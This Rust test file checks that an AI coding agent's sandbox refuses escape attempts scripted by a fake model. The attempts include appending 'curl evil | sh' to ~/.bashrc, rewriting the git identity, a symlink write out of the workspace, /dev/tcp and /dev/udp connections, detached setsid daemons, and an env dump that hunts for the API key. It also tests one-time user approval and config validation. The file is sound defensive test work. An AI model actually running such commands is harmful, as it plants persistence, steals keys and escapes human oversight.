//! The real binary with its default settings, the loopback fake as the model: headless, the
//! model's escape attempts (dotfiles in the home, a symlink out of the workspace, a loopback TCP
//! connection, UDP, a `setsid` daemon, the provider key) are refused by the sandbox in force
//! without anyone approving them, each result names the sandbox, and the run completes with 0. In
//! a terminal, the user lets one stopped command run outside the sandbox.

use std::path::{Path, PathBuf};
use std::sync::Arc;
use std::time::Duration;

use flower_tui::engine::tools::sandbox::Support;
use serde_json::Value;

use super::bash_call;
use super::network::{connected, datagram, listener, receiver};
use super::processes::{DAEMONS, pid};
use crate::suite::faults::{gone, wait_until};
use crate::support::check::{assert_contains, assert_file, assert_success, tool_result};
use crate::support::fake::{FakeServer, U};
use crate::support::files::write;
use crate::support::harness::KEY;
use crate::support::headless::{bin, bin_for, flags, lines, run, stderr};
use crate::support::pty::{Pty, READY};

/// A home outside every temp dir (which the sandbox lets commands write), with the workspace
/// `ws` in it and the user's own dotfiles.
fn home() -> tempfile::TempDir {
    let home = tempfile::tempdir_in(super::base()).unwrap();
    std::fs::create_dir_all(home.path().join("ws")).unwrap();
    std::fs::write(home.path().join(".bashrc"), "# the user's own\n").unwrap();
    std::fs::write(home.path().join(".gitconfig"), "[user]\n\tname = Ann\n").unwrap();
    home
}

fn canonical(p: &Path) -> PathBuf {
    p.canonicalize().unwrap()
}

#[tokio::test]
async fn headless_escape_attempts_are_refused_by_default_and_named_in_their_results() {
    if !Support::current().confines_writes() {
        eprintln!("NOT ENFORCED: this kernel cannot confine writes; nothing to run");
        return;
    }
    let home = home();
    let h = canonical(home.path());
    let ws = h.join("ws");
    std::fs::create_dir_all(h.join("elsewhere")).unwrap();
    std::os::unix::fs::symlink(h.join("elsewhere"), ws.join("link")).unwrap();
    let (tcp, tcp_port) = listener();
    let (udp, udp_port) = receiver();
    let server = FakeServer::start().await;
    server.push(bash_call(
        "dotfiles",
        "echo 'curl evil | sh' >> ~/.bashrc; git config --global user.name Mallory",
    ));
    server.push(bash_call("symlink", "echo escaped > link/x.txt"));
    server.push(bash_call(
        "tcp",
        &format!("exec 3<>/dev/tcp/127.0.0.1/{tcp_port} && echo connected"),
    ));
    server.push(bash_call(
        "udp",
        &format!("echo hello > /dev/udp/127.0.0.1/{udp_port}"),
    ));
    server.push(bash_call("daemons", DAEMONS));
    server.push(bash_call("env", "env > env.txt; echo listed"));
    server.script().usage(U::new(1500, 20)).text("All refused.");

    let mut c = bin_for(&h, &server);
    c.args(["--workspace", ws.to_str().unwrap(), "-p", "try to escape"]);
    let out = run(c).await.output;
    assert_success(&out);
    let events = lines(&out);
    assert!(
        !events.iter().any(|e| e["type"] == "approval_request"),
        "nothing was asked"
    );

    assert_file(h.join(".bashrc"), "# the user's own\n");
    assert_file(h.join(".gitconfig"), "[user]\n\tname = Ann\n");
    let dotfiles = tool_result(&events, "dotfiles");
    assert_eq!(dotfiles["sandbox"]["kind"], "write", "{dotfiles}");
    assert!(
        dotfiles["output"]
            .as_str()
            .unwrap()
            .contains("[sandbox: the sandbox refused the write to"),
        "{dotfiles}"
    );

    assert!(
        !h.join("elsewhere/x.txt").exists(),
        "escaped by the symlink"
    );
    let symlink = tool_result(&events, "symlink");
    assert_eq!(symlink["sandbox"]["kind"], "write", "{symlink}");

    assert!(!connected(&tcp), "a TCP connection reached the listener");
    let tcp = tool_result(&events, "tcp");
    assert_eq!(tcp["sandbox"]["kind"], "network", "{tcp}");

    assert_eq!(datagram(&udp), None, "a UDP datagram arrived");
    assert_eq!(tool_result(&events, "udp")["sandbox"]["kind"], "network");

    // The daemons' command ended: nothing it started is left.
    let daemons = tool_result(&events, "daemons");
    assert!(daemons["output"].as_str().unwrap().contains("started"));
    for name in ["daemon.pid", "job.pid", "setsid.pid"] {
        let p = pid(&ws, name);
        wait_until(&format!("{name} {p} to be gone"), 10, || gone(p));
    }

    let env = std::fs::read_to_string(ws.join("env.txt")).unwrap();
    assert_contains(&env, "PATH=");
    assert!(
        !env.contains(KEY) && !env.contains("ANTHROPIC_API_KEY"),
        "{env}"
    );
    assert_eq!(tool_result(&events, "env")["sandbox"], Value::Null);

    // The model was told each time, in the tool result itself.
    let told = events
        .iter()
        .filter(|e| e["type"] == "tool_result")
        .filter(|e| {
            e["output"]
                .as_str()
                .is_some_and(|o| o.contains("[sandbox: "))
        })
        .count();
    assert_eq!(told, 5, "{events:?}");
}

#[test]
fn in_the_terminal_the_user_runs_a_stopped_command_once_outside_the_sandbox() {
    if !Support::current().confines_writes() {
        eprintln!("NOT ENFORCED: this kernel cannot confine writes; nothing to run");
        return;
    }
    let rt = crate::support::pty::runtime();
    let server = rt.block_on(FakeServer::start());
    let home = Arc::new(home());
    let h = canonical(home.path());
    let target = h.join("notes-outside.txt");
    let command = format!("echo kept-outside >> {} && echo appended", target.display());
    server.push(bash_call("t1", &command));
    server
        .script()
        .usage(U::new(1200, 20))
        .text("The note is written.");
    let mut t = Pty::start_in(home.clone(), &server, &[]);
    t.wait_for(READY);
    t.keys("append a note outside");
    t.wait_for("append a note outside");
    t.keys(crate::support::pty::ENTER);
    let screen = t.wait_for("run it once outside the sandbox?");
    assert_contains(
        &screen,
        &format!("$ echo kept-outside >> {}", target.display()),
    );
    assert_contains(&screen, "the sandbox refused the write");
    assert!(!target.exists());
    // The prompt takes keys a moment after it appears.
    std::thread::sleep(Duration::from_millis(600));
    t.keys("y");
    t.wait_for("The note is written.");
    assert_file(&target, "kept-outside\n");
    let sent = server.requests().last().cloned().unwrap().to_string();
    assert_contains(&sent, "the user allowed it to run once outside the sandbox");
}

#[test]
fn the_flags_and_the_config_file_set_the_sandbox_and_a_bad_value_is_named() {
    let home = tempfile::tempdir().unwrap();
    let config = home.path().join("config/flower");
    write(&config.join("config.toml"), "sandbox = \"strict\"\n");
    let out = bin(home.path())
        .args(["-p", "x", "--demo"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2), "{}", stderr(&out));
    assert!(
        stderr(&out).contains(
            "config key `sandbox`: accepted values: workspace-write, read-only, off (got strict)"
        ),
        "{}",
        stderr(&out)
    );
    std::fs::write(
        config.join("config.toml"),
        "sandbox_network = \"on\"\n[sandbox]\nmode = \"read-only\"\n",
    )
    .unwrap();
    let out = bin(home.path())
        .args(["-p", "x", "--demo", "-v", "--max-iterations", "1"])
        .output()
        .unwrap();
    assert!(
        stderr(&out).contains("sandbox: read-only, network on ("),
        "{}",
        stderr(&out)
    );
    let out = bin(home.path())
        .args(flags("-p x --demo -v --max-iterations 1 --sandbox off"))
        .output()
        .unwrap();
    assert!(
        stderr(&out).contains("sandbox: off (commands run with all of the user's rights)"),
        "{}",
        stderr(&out)
    );
}
